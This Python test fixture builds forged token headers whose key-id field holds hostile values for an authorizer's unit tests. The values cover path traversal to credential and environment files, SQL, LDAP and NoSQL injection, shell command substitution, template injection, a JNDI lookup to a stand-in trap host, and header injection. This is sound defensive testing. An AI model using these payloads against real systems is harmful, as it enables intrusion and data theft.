"""Key ids that want to be a path, a query, an address, or more than one thing."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from tests.unit.authorizer.token_builder import ABSENT

if TYPE_CHECKING:
    from tests.unit.authorizer.forgeries.scene import Forgeries, Scene

# `{kid}` is the honest one.
TEXTS = {
    "empty": "",
    "another": "key-2",
    "space behind": "{kid} ",
    "space before": " {kid}",
    "line break behind": "{kid}\n",
    "null byte behind": "{kid}\0",
    "null byte and a path": "{kid}\0/../x",
    "wide": "{kid}\uff11",
    "accent": "{kid}\u0301",
    "invisible": "\u200b{kid}",
    "right to left": "\u202e{kid}",
    "byte order mark": "\ufeff{kid}",
    "emoji": "\U0001f511",
    "path up": "../../../../dev/null",
    "path up to itself": "../keys/{kid}",
    "path here": "./{kid}",
    "absolute path": "/dev/null",
    "an environment": "/proc/self/environ",
    "encoded path": "..%2f..%2fdev%2fnull",
    "Windows path": "..\\..\\windows\\win.ini",
    "UNC path": "\\\\{trap}\\share\\key",
    "SQL or": "{kid}' OR '1'='1",
    "SQL union": "x' UNION SELECT 'secret' --",
    "SQL comment": "{kid}'--",
    "SQL drop": "{kid}'; DROP TABLE keys; --",
    "LDAP": "*)(uid=*))(|(uid=*",
    "NoSQL": '{"$ne": null}',
    "XPath": "' or ''='",
    "shell pipe": "|/usr/bin/id",
    "shell substitution": "$(id)",
    "shell back-ticks": "`id`",
    "template": "{{7*7}}",
    "JNDI": "${{jndi:ldap://{trap}/a}}",
    "format": "%s%s%s%n",
    "Python attribute": "__class__",
    "Python method": "get",
    "http": "http://{trap}/key",
    "https": "https://{trap}/key",
    "file": "file:///etc/passwd",
    "data": "data:,key",
    "star": "*",
    "question mark": "?",
    "any by pattern": ".*",
    "several": "{kid},key-2",
    "line break and a header": "{kid}\r\nX-Injected: 1",
    "a partition of the table": "SIGNING_KEYS",
    "an API token's partition": "API_TOKENS",
    "long": "k" * 257,
    "longer than any table's key": "k" * 2000,
    "thousand accents": "k" + "\u0301" * 500,
}
NOT_TEXT: dict[str, Any] = {
    "absent": ABSENT,
    "null": None,
    "zero": 0,
    "one": 1,
    "minus one": -1,
    "fraction": 1.5,
    "huge": 10**300,
    "true": True,
    "false": False,
    "empty list": [],
    "empty object": {},
    "operator": {"$ne": ""},
}


def key_ids(scene: Scene) -> Forgeries:
    """Each over a signature of the issuer's own key, in case the id leads back to it."""
    kid = scene.key.kid
    texts = {name: text.replace("{kid}", kid).replace("{trap}", scene.trap) for name, text in TEXTS.items()}
    return {
        **{f"kid: {name}": scene.headed(kid=text) for name, text in texts.items()},
        **{f"kid is {name}": scene.headed(kid=value) for name, value in NOT_TEXT.items()},
        "kid in a list": scene.headed(kid=[kid]),
        "kid in two lists": scene.headed(kid=[[kid]]),
        "kid in an object": scene.headed(kid={kid: kid}),
        "kid in another case": scene.headed(kid=kid.swapcase()),
        "kid doubled": scene.headed(kid=kid * 2),
        "kid cut": scene.headed(kid=kid[:-1]),
        "kid reversed": scene.headed(kid=kid[::-1]),
        "kid under another name": scene.headed(kid=ABSENT, KID=kid, keyid=kid),
    }
